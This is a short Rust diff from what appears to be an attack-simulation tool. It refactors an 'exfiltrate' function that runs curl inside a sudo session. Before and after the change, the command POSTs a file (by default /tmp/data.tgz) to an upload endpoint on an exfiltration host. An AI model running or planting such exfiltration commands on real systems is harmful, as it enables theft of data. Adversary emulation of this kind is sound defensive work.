@@ -106,8 +106,17 @@ pub(super) fn exfiltrate(ctx: &mut Ctx<'_>, env: &mut Env<'_>) {
     if host_os(ctx, host) == Os::Linux {
         let file = env.param("file", "/tmp/data.tgz").to_string();
         let user = env.user_name(ctx).unwrap_or_else(|| "root".to_string());
-        let command =
-            format!("/usr/bin/curl -sk -X POST --data-binary @{file} https://{exfil}/upload");
+        let data = format!("@{file}");
+        let url = format!("https://{exfil}/upload");
+        let command = [
+            "/usr/bin/curl",
+            "-sk",
+            "-X",
+            "POST",
+            "--data-binary",
+            &data,
+            &url,
+        ];
         // The upload runs inside the sudo session.
         let started = super::persist::sudo(ctx, env, &user, &command, (duration * 1e3) as i64);
         let t = started + 60_000_000;
